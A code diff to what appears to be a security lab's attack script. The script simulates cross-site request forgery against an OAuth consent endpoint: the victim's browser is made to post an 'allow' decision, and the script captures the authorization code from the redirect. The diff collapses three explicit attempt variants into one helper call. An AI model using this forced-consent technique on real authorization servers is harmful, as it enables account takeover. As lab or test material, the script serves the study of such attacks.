@@ -33,26 +33,7 @@ export const attack: AttackFile = {
     const consent = formsOn(ownPage).flatMap(({ values }) => values.consent ?? [])[0] ?? ''
     const url = link.replace('/authorize', '/consent')
     const form = { consent, scope: 'profile', decision: 'allow' }
-    const responses = [
-      await victim.isMadeToSend('POST', url, {
-        from: 'another site',
-        form,
-        meaning:
-          "A page on another site makes the victim's browser send that form. The browser leaves out the cookie.",
-      }),
-      await victim.isMadeToSend('POST', url, {
-        from: 'another port of localhost',
-        form,
-        meaning:
-          'A page on another port of localhost does the same. To the browser that is the same site, so it sends the cookie. It also says that the form is from another origin.',
-      }),
-      await victim.isMadeToSend('POST', url, {
-        from: 'another port of localhost',
-        form,
-        isOldBrowser: true,
-        meaning: "The same again, in an old browser that doesn't say where a form is from.",
-      }),
-    ]
+    const responses = await victim.isMadeToPost(url, form)
     const caught = responses.map(({ location = lab.serverUrl }) => location)
     const callback = caught.find((location) => parameterOf(location, 'code') !== undefined)
     const tokens =
